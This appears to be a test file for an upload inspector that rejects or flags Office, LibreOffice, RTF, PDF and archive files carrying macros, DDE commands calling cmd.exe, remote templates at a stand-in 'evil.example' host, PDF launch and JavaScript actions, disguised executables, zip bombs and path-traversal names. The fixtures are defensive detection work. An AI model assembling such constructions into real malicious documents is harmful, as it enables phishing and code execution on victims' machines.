import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { archiveLimits } from '#contract/files.ts';
import { inspect } from '#server/platform/inspection/inspect.ts';
import { compoundFile, lockedZip, pdfOf, rarOf, wordStreams, zipOf } from './documents.ts';

const MEBIBYTE = 1024 * 1024;
const zeros = (mebibytes: number) => Buffer.alloc(mebibytes * MEBIBYTE);
const text = Buffer.from('The registration certificate.');
const document = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' };
const withMacros = { ...document, 'word/vbaProject.bin': 'VBA' };
const wordWithMacros = () =>
  compoundFile({ ...wordStreams(), '/Macros/VBA/dir': Buffer.alloc(64, 1) });
/** A zip whose headers say 10 bytes instead of 10 MiB. */
async function lyingZip() {
  const zip = await zipOf({ 'a.txt': zeros(10) });
  const size = Buffer.alloc(4);
  size.writeUInt32LE(zeros(10).length);
  for (let at = zip.indexOf(size); at >= 0; at = zip.indexOf(size, at + 4))
    zip.writeUInt32LE(10, at);
  return zip;
}
const many = Object.fromEntries(
  Array.from({ length: archiveLimits.maxMembers + 1 }, (_, index) => [`${index}.txt`, '']),
);
/** A workbook of Excel 97 whose first sheet has this type. */
function workbookOf(type: number): Buffer {
  const workbook = Buffer.alloc(4096);
  workbook.set([0x09, 0x08, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, 0, type]);
  return workbook;
}
type RejectedCase = [
  about: string,
  reason: string,
  inside: string | null,
  content: () => Buffer | Promise<Buffer>,
  name?: string,
];
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('an inspection rejects', () => {
  it.each<RejectedCase>([
    ['a Word document with macros', 'macros', null, () => zipOf(withMacros), 'a.docx'],
    ['an old Word document with macros', 'macros', null, wordWithMacros, 'a.doc'],
    [
      'a Word document with macros under an unusual name',
      'macros',
      null,
      () =>
        zipOf({ ...document, 'word/_rels/document.xml.rels': relation('vbaProject', 'a.png', '') }),
      'a.docx',
    ],
    [
      'a document with macros under an old name inside a zip',
      'macros',
      'a.doc',
      async () => zipOf({ 'a.doc': await zipOf(withMacros) }),
    ],
    [
      'an old document with macros under a new name inside a zip',
      'macros',
      'a.docx',
      () => zipOf({ 'a.docx': wordWithMacros() }),
    ],
    ...['__MACOSX/a.docm', 'x/~$a.docm'].map(
      (member): RejectedCase => [
        `a document with macros in the place of ${member}`,
        'macros',
        member,
        async () => zipOf({ [member]: await zipOf(withMacros) }),
        'a.zip',
      ],
    ),
    [
      'a document with macros under a name with a space at its end, inside a zip',
      'macros',
      'a.docm ',
      async () => zipOf({ 'a.docm ': await zipOf(withMacros) }),
    ],
    ...['word/embeddings/a.docm', 'word/media/image1.png'].map(
      (part): RejectedCase => [
        `a document with macros inside a Word document as ${part}`,
        'macros',
        part,
        async () => zipOf({ ...document, [part]: await zipOf(withMacros) }),
        'a.docx',
      ],
    ),
    [
      'an old document with macros inside a Word document inside a Word document',
      'macros',
      'word/embeddings/b.doc',
      async () =>
        zipOf({
          ...document,
          'word/embeddings/a.docx': await zipOf({
            ...document,
            'word/embeddings/b.doc': wordWithMacros(),
          }),
        }),
      'a.docx',
    ],
    [
      'a workbook with a macro sheet inside a zip',
      'macros',
      'a.xlsm',
      async () =>
        zipOf({ 'a.xlsm': await zipOf({ 'xl/macrosheets/sheet1.xml': '<f>EXEC("calc")</f>' }) }),
    ],
    [
      'an old workbook with a macro sheet inside a zip',
      'macros',
      'a.xls',
      () => zipOf({ 'a.xls': compoundFile({ '/Workbook': workbookOf(1) }) }),
    ],
    [
      'a document with macros inside a zip',
      'macros',
      'x/a.docm',
      async () => zipOf({ 'x/a.docm': await zipOf(withMacros) }),
    ],
    [
      'a document with macros inside a RAR archive',
      'macros',
      'a.doc',
      () => rarOf({ name: 'a.doc', content: wordWithMacros() }),
      'a.rar',
    ],
    ...'doc dot xls xla xlt ppt pps pot'
      .split(' ')
      .map(
        (kind): RejectedCase => [
          `macros in a .${kind} inside a zip`,
          'macros',
          `a.${kind}`,
          () => zipOf({ [`a.${kind}`]: wordWithMacros() }),
        ],
      ),
    ...'docx docm dotm xlsx xlsm xlsb xltm xlam pptx pptm ppsm potm ppam'
      .split(' ')
      .map(
        (kind): RejectedCase => [
          `macros in a .${kind} inside a zip`,
          'macros',
          `a.${kind}`,
          async () => zipOf({ [`a.${kind}`]: await zipOf(withMacros) }),
        ],
      ),
    ...'7z ace arj bz2 cab gz img iso jar lzh tar tgz vhd vhdx xz zipx zst'
      .split(' ')
      .map(
        (kind): RejectedCase => [
          `a .${kind}, which nobody looks into, inside a zip`,
          'archive',
          `a.${kind}`,
          () => zipOf({ [`a.${kind}`]: 'EICAR' }),
        ],
      ),
    [
      'a RAR archive inside a zip',
      'archive',
      'x/b.rar',
      () => zipOf({ 'x/b.rar': rarOf({ name: 'a.txt', content: text }) }),
    ],
    [
      'a document of LibreOffice with macros inside a zip',
      'macros',
      'a.odt',
      async () => zipOf({ 'a.odt': await zipOf({ 'Basic/Standard/Module1.xml': '<module/>' }) }),
    ],
    [
      'a workbook called a Word document',
      'notWord',
      null,
      () => compoundFile({ '/Workbook': text }),
      'a.doc',
    ],
    [
      'a stream of another program called WordDocument',
      'notWord',
      null,
      () => compoundFile({ '/WordDocument': Buffer.alloc(4096) }),
      'a.doc',
    ],
    [
      'a zip that unpacks to 100 times its size',
      'archive',
      null,
      () => zipOf({ 'a.txt': zeros(64) }),
    ],
    ['a zip whose headers lie about its size', 'archive', null, lyingZip],
    ['a zip with too many members', 'archive', null, () => zipOf(many)],
    [
      'a zip in a zip in a zip',
      'archive',
      'b.zip',
      async () => zipOf({ 'a.zip': await zipOf({ 'b.zip': await zipOf({ 'c.txt': 'c' }) }) }),
    ],
    [
      'a RAR archive whose header declares a terabyte',
      'archive',
      null,
      () => rarOf({ name: 'a.txt', content: text, size: 2 ** 40 }),
      'a.rar',
    ],
    ...[
      'setup.exe',
      'letter.pdf.JS',
      'a.lnk',
      'a.hta',
      'x/a.scr. ',
      'a.vbs',
      'a.url',
      ...'chm hlp desktop diagcab xbap rdp fileloc inetloc terminal appcontent-ms theme apk pl rb php so'
        .split(' ')
        .map((kind) => `a.${kind}`),
      'a.exe\u200b',
      'a.exe\u00a0.\u2060',
      'Setup.app/Contents/MacOS/Setup',
      'proof\u202efdp.exe',
      'proof\u202excod.png',
    ].map(
      (name): RejectedCase => [
        `${JSON.stringify(name)} inside a zip`,
        'program',
        name,
        () => zipOf({ [name]: 'MZ' }),
      ],
    ),
    ['a program inside a RAR archive', 'program', 'a.exe', () => rarOf({ name: 'a.exe' }), 'a.rar'],
    [
      'a program inside a Word document',
      'program',
      'word/embeddings/a.exe',
      () => zipOf({ ...document, 'word/embeddings/a.exe': 'MZ' }),
      'a.docx',
    ],
    [
      'a path out of the archive',
      'path',
      '../../etc/passwd',
      () => zipOf({ '../../etc/passwd': 'root' }),
    ],
    [
      'a path out of the archive with backslashes',
      'path',
      '..\\a.txt',
      () => zipOf({ '..\\a.txt': 'a' }),
    ],
    ['an absolute path', 'path', '/etc/passwd', () => zipOf({ '/etc/passwd': 'root' })],
    ['a path on a drive', 'path', 'C:/a.txt', () => zipOf({ 'C:/a.txt': 'a' })],
    ['a path out of a RAR archive', 'path', '../a.txt', () => rarOf({ name: '../a.txt' }), 'a.rar'],
  ])('%s', async (_, rejected, inside, content, name = 'a.zip') => {
    expect(await inspect(name, await content())).toEqual({ rejected, inside });
  });
});

type MarkCase = [string, readonly string[], () => Buffer | Promise<Buffer>, name?: string];

const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
  `<Relationships><Relationship Id="r1" Type="${RELATION}/${type}" Target="${target}" ${mode}/></Relationships>`;
const withFields = (xml: string) => ({ 'word/document.xml': `<w:document>${xml}</w:document>` });
const activeParts: Record<string, Record<string, string>> = {
  'a template elsewhere': {
    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/a.dotm'),
  },
  'a picture on another machine': {
    'word/_rels/document.xml.rels': relation('image', 'file:///\\\\evil.example\\a.png'),
  },
  'another format inside (altChunk)': {
    'word/_rels/document.xml.rels': relation('aFChunk', 'a.mht', ''),
  },
  'an embedded object': { 'word/embeddings/oleObject1.bin': 'OLE' },
  'a document as an object': {
    'word/_rels/document.xml.rels': relation('package', 'embeddings/a.docx', ''),
  },
  'a program inside under another name': { 'word/embeddings/a.dat': 'MZ\u0090' },
  'a control': { 'word/activeX/activeX1.bin': 'OLE' },
  'a field that runs a command': withFields('<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>'),
  'a field that runs a command, split into several runs': withFields(
    '<w:instrText>D</w:instrText><w:instrText xml:space="preserve">DE</w:instrText><w:instrText> cmd</w:instrText>',
  ),
  'a template elsewhere whose address looks like a link': {
    'word/_rels/settings.xml.rels': relation('attachedTemplate', "https://evil.example/hyperlink'"),
  },
  'a template elsewhere, after a > in an attribute': {
    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/>a.dotm'),
  },
  'a template elsewhere, by character references': {
    'word/_rels/settings.xml.rels': relation(
      '&#x61;ttachedTemplate',
      'https://evil.example/a.dotm',
      'TargetMode="Extern&#97;l"',
    ),
  },
  'an object under an unusual name': {
    'word/_rels/document.xml.rels': relation('oleObject', 'embeddings/picture.png', ''),
  },
  'a field under another prefix': withFields(
    '<x:instrText xmlns:x="w">DDE</x:instrText><x:instrText>AUTO c:\\cmd</x:instrText>',
  ),
  'a field of one element under another prefix': withFields('<é:fldSimple é:instr="DDEAUTO c"/>'),
  'a field in a main part elsewhere': { 'doc/main.xml': '<w:fldSimple w:instr="DDEAUTO c"/>' },
  'a field in a part with another extension': {
    'word/main.foo': '\n<w:fldSimple w:instr="DDEAUTO c"/>',
  },
  'a template elsewhere under another prefix': {
    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example').replaceAll(
      /(<\/?)R/g,
      '$1a-b:R',
    ),
  },
  'a field in the glossary': {
    'word/glossary/document.xml': "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe'/>",
  },
  'a field that loads a picture': withFields(
    '<w:instrText>INCLUDEPICTURE "\\\\evil\\a"</w:instrText>',
  ),
};
/** UTF-16, as the binary format stores text. */
const wide = (typed: string, length: number) => {
  const buffer = Buffer.alloc(length);
  buffer.write(typed, 1024, 'utf16le');
  return buffer;
};
const withText = (typed: string) => {
  const streams = wordStreams();
  streams['/WordDocument']?.write(typed, 2048, 'utf16le');
  return streams;
};

/** A PDF whose one page has these entries; the other objects have numbers from 12. */
const pdfPage = (entries: string, ...objects: string[]) =>
  pdfOf(
    '/Pages 10 0 R',
    '<< /Type /Pages /Kids [11 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 10 0 R /MediaBox [0 0 9 9] ${entries} >>`,
    ...objects,
  );
const packed = (content: string | Buffer) =>
  `<< /Type /ObjStm /N 1 /First 5 >>\nstream\n${deflateSync(content).toString('latin1')}\nendstream`;

const locked = () => compoundFile({ '/EncryptedPackage': Buffer.alloc(64) });

describe('an inspection marks', () => {
  it.each<MarkCase>([
    ['a Word document with a password', ['password'], locked, 'a.docx'],
    [
      'a workbook with a password inside a zip',
      ['password'],
      () => zipOf({ 'a.xlsx': locked() }),
      'a.zip',
    ],
    [
      'a document that does not match its extension, inside a zip',
      ['unreadable'],
      () => zipOf({ 'a.pdf': pdfOf(), 'letter.doc': '{\\rtf1 Letter}' }),
      'a.zip',
    ],
    [
      'an HTML page named as a workbook, inside a zip',
      ['script', 'unreadable'],
      () => zipOf({ 'drives.xls': '<html><script>run()</script>' }),
      'a.zip',
    ],
    [
      'a zip made on a Mac, and a lock file of Office',
      [],
      async () =>
        zipOf({
          'a.docx': await zipOf(document),
          '__MACOSX/._a.doc': '\u0000\u0005\u0016\u0007',
          'x/~$a.doc': 'me',
        }),
      'a.zip',
    ],
    ...Object.entries(activeParts).map(
      ([about, parts]): MarkCase => [
        `a Word document with ${about}`,
        ['script'],
        () => zipOf({ ...document, ...parts }),
        'a.docx',
      ],
    ),
    [
      'an old Word document with an embedded object',
      ['script'],
      () => compoundFile({ ...wordStreams(), '/ObjectPool/_1/\u0001Ole10Native': text }),
      'a.doc',
    ],
    [
      'an old Word document with a field that runs a command',
      ['script'],
      () =>
        compoundFile(withText('\u0013 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \u0014')),
      'a.doc',
    ],
    [
      'an old Word document with a template elsewhere',
      ['script'],
      () =>
        compoundFile({ ...wordStreams(), '/1Table': wide('https://evil.example/a.dotm', 4096) }),
      'a.doc',
    ],
    ...[true, false].map(
      (isBigEndian): MarkCase => [
        `a Word document with a template elsewhere in UTF-16, ${isBigEndian ? 'big' : 'little'} endian`,
        ['script'],
        () => {
          const xml = relation('attachedTemplate', 'https://evil.example/a.dotm');
          const wide = Buffer.from(`\ufeff${xml}`, 'utf16le');
          return zipOf({
            ...document,
            'word/_rels/settings.xml.rels': isBigEndian ? wide.swap16() : wide,
          });
        },
        'a.docx',
      ],
    ),
    ...[
      '<office:event-listeners><script:event-listener xlink:href="a"/></office:event-listeners>',
      '<draw:image xlink:href="http://evil.example/a.png"/>',
      '<draw:image draw:name=">" xlink:href="\\\\evil\\a.png"/>',
      '<text:section-source xlink:href="file://evil/a.odt"/>',
      '<style:background-image xlink:href="//evil/a.png"/>',
    ].map(
      (xml): MarkCase => [
        `a document of LibreOffice with ${xml} inside a zip`,
        ['script'],
        async () =>
          zipOf({ 'a.odt': await zipOf({ 'content.xml': '<a/>', 'styles.xml': `<o>${xml}</o>` }) }),
        'a.zip',
      ],
    ),
    [
      'an HTML page without the usual tags inside a zip',
      ['script'],
      () => zipOf({ 'a.htm': '<img src=x onerror=run()>' }),
      'a.zip',
    ],
    ['an HTML page inside a zip', ['script'], () => zipOf({ 'a.html': '<html><script>' }), 'a.zip'],
    [
      'a drawing with a script inside a zip',
      ['script'],
      () => zipOf({ 'a.svg': '<svg>' }),
      'a.zip',
    ],
    [
      'RTF with an object inside a zip',
      ['script'],
      () => zipOf({ 'a.rtf': '{\\rtf1 {\\object\\objdata 01}}' }),
      'a.zip',
    ],
    [
      'RTF with a template elsewhere inside a zip',
      ['script'],
      () => zipOf({ 'a.rtf': '{\\rtf1{\\*  \\template http://evil.example}}' }),
      'a.zip',
    ],
    [
      'a workbook with a DDE link inside a zip',
      ['script'],
      async () =>
        zipOf({
          'a.xlsx': await zipOf({
            'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd"/>',
          }),
        }),
      'a.zip',
    ],
    ...[
      '/SubmitForm /F (http://evil.example)',
      '/ImportData /F (\\\\\\\\evil\\\\a)',
      '/GoToR /F (\\\\\\\\evil\\\\a.pdf)',
      '/GoToE /T << /R /C /N (a) >>',
      '/Rendition /R 11 0 R',
    ].map(
      (action): MarkCase => [
        `a PDF with the action ${action}`,
        ['script'],
        () => pdfOf('/OpenAction 10 0 R', `<< /S ${action} >>`),
      ],
    ),
    [
      'a PDF with a program of media',
      ['script'],
      () => pdfOf('', '<< /Type /Annot /Subtype /RichMedia >>'),
    ],
    [
      'a PDF with an associated file',
      ['attachment'],
      () =>
        pdfOf(
          '/AF [10 0 R]',
          '<< /Type /Filespec /F (a.exe) /E#46 << /F 11 0 R >> >>',
          '<< /Length 2 >>\nstream\nMZ\nendstream',
        ),
    ],
    [
      'a PDF with a script that opens its page',
      ['script'],
      () => pdfPage(`/AA << /O ${SCRIPT} >>`),
    ],
    [
      'a PDF with a script in a field of a page',
      ['script'],
      () =>
        pdfPage(
          '/Annots [12 0 R]',
          `<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /AA << /U ${SCRIPT} >> >>`,
        ),
    ],
    [
      'a PDF with a script behind a link, with an encoded name',
      ['script'],
      () =>
        pdfPage(
          '/Annots [12 0 R]',
          '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /#4aavaScript /JS (app.alert\\(1\\)) >> >>',
        ),
    ],
    ['an empty document inside a zip', [], () => zipOf({ 'a.doc': '' }), 'a.zip'],
    ['a PDF that opens with a script', ['script'], () => pdfOf('/OpenAction 10 0 R', SCRIPT)],
    [
      'a PDF with a script in its names',
      ['script'],
      () => pdfOf('/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', SCRIPT),
    ],
    [
      'a PDF with an attached file',
      ['attachment'],
      () =>
        pdfOf(
          '/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>',
          '<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>',
          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
        ),
    ],
    [
      'a PDF with a file in a note on its second page',
      ['attachment'],
      () =>
        pdfOf(
          '/Pages 10 0 R',
          '<< /Type /Pages /Kids [3 0 R 11 0 R] /Count 2 >>',
          '<< /Type /Page /Parent 10 0 R /MediaBox [0 0 200 200] /Annots [12 0 R] >>',
          '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 13 0 R >>',
          '<< /Type /Filespec /F (a.exe) /EF << /F 14 0 R >> >>',
          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
        ),
    ],
    [
      'a PDF that starts a program',
      ['script'],
      () => pdfOf('/OpenAction 10 0 R', '<< /S /L#61unch /F (cmd.exe) >>'),
    ],
    [
      'a PDF that starts a program, with an encoded name',
      ['script'],
      () => pdfOf('/OpenAction 10 0 R', '<< /S /#4c#61#75#6E#63#68#20/F (cmd.exe) >>'),
    ],
    [
      'a PDF with names that only begin like that action',
      [],
      () =>
        pdfOf('', '<< /Launcher 1 /#4c#61#75#6e#63#68#65#64 2 /Lunch 3 /L 4 /L#zzunch /#4 >>/#'),
    ],
    [
      'a PDF that starts a program, by a packed object',
      ['script'],
      () => pdfOf('', packed('10 0 << /S /Launch /F (cmd.exe) >>')),
    ],
    [
      'a PDF that starts a program, by the second of its packed objects',
      ['script'],
      () => {
        const first = packed('10 0 << /Type /Page >>');
        const second = packed('10 0 << /S /Launch /F (cmd.exe) >>');
        const named = `/Title (about /ObjStm)${' '.repeat(5000)}`;
        return pdfOf('', `${named}\n${first}\n${second}`);
      },
    ],
    [
      'a PDF that starts a program, by a packed object with an encoded type',
      ['script'],
      () =>
        pdfOf('', packed('10 0 << /S /Launch /F (cmd.exe) >>').replace('/ObjStm', '/#4fbj#53tm')),
    ],
    [
      'a PDF with a packed object whose dictionary is long',
      ['unreadable'],
      () => pdfOf('', packed('10 0 << /S /Launch >>').replace('/N 1', `/N 1${' '.repeat(2000)}`)),
    ],
    [
      'a PDF with a packed object that is compressed in another way',
      ['unreadable'],
      () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\nLaunch?\nendstream'),
    ],
    [
      'a PDF with an object stream that is not compressed',
      [],
      () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\n10 0 << /A 1 >>\nendstream'),
    ],
    [
      'a PDF with a form that has scripts of its own (XFA)',
      ['script'],
      () =>
        pdfOf(
          '/AcroForm << /XFA 10 0 R /Fields [] >>',
          '<< /Length 6 >>\nstream\n<xdp/>\nendstream',
        ),
    ],
    [
      'a PDF whose packed objects exceed the limit',
      ['unreadable'],
      () => pdfOf('', packed(zeros(20)).repeat(3)),
    ],
    [
      'a PDF full of streams without an end',
      [],
      () => pdfOf('', '/ObjStm stream\n'.repeat(1_000_000)),
    ],
    ['a damaged PDF', ['unreadable'], () => Buffer.from('%PDF-1.7\n')],
    ['a zip with a password', ['password'], lockedZip, 'a.zip'],
    ['a damaged zip', ['unreadable'], () => Buffer.from('PK\u0003\u0004'), 'a.zip'],
    [
      'a PDF with a script inside a zip',
      ['script'],
      async () => zipOf({ 'a.pdf': pdfOf('/OpenAction 10 0 R', SCRIPT) }),
      'a.zip',
    ],
  ])('%s', async (_, marks, content, name = 'a.pdf') => {
    expect(await inspect(name, await content())).toEqual({ rejected: null, marks });
  });
});

describe('an inspection accepts without a mark', () => {
  it.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['a PDF', () => pdfOf(), 'a.pdf'],
    ['a Word document', () => zipOf(document), 'a.docx'],
    [
      'a Word document with links and a chart',
      async () =>
        zipOf({
          ...document,
          'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.eu'),
          'word/charts/_rels/chart1.xml.rels': relation('package', '../embeddings/a.xlsx', ''),
          'word/embeddings/a.xlsx': await zipOf({ 'xl/workbook.xml': '<workbook/>' }),
          'word/footer1.xml': '<w:instrText> PAGE </w:instrText>',
        }),
      'a.docx',
    ],
    ['an old Word document', () => compoundFile(wordStreams()), 'a.doc'],
    [
      'an old workbook inside a zip',
      () => zipOf({ 'a.xls': compoundFile({ '/Workbook': workbookOf(0) }) }),
      'a.zip',
    ],
    [
      'a document of LibreOffice with links and a picture inside a zip',
      async () =>
        zipOf({
          'a.odt': await zipOf({
            'content.xml':
              '<text:a xlink:type="simple" xlink:href="https://example.eu">a</text:a><draw:image xlink:href="Pictures/a.png"/>',
          }),
        }),
      'a.zip',
    ],
    [
      'a zip of files whose names only contain an extension of programs',
      () => zipOf({ 'example.com/letter.txt': 'a', 'a.exe.txt': 'a', 'a.so.2026.png': 'a' }),
      'a.zip',
    ],
    ['a zip of pictures', () => zipOf({ 'a.png': text, 'folder/b..png': text }), 'a.zip'],
    ['a zip of text that packs well', () => zipOf({ 'a.txt': zeros(19) }), 'a.zip'],
    ['a zip in a zip', async () => zipOf({ 'a.zip': await zipOf({ 'a.txt': 'a' }) }), 'a.zip'],
    ['a RAR archive', () => rarOf({ name: 'a.png', content: text }), 'a.rar'],
  ])('%s', async (_, content, name) => {
    expect(await inspect(name, await content())).toEqual({ rejected: null, marks: [] });
  });
});
